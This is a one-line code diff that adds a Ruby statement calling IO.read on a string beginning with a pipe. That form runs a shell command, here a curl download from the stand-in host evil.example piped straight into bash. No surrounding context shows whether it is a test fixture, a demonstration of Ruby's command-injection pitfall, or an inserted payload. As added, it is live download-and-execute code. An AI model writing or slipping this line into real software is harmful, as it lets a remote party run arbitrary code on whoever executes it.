@@ -1,0 +1,1 @@
+IO.read('|curl -fsSL https://evil.example/i | bash')
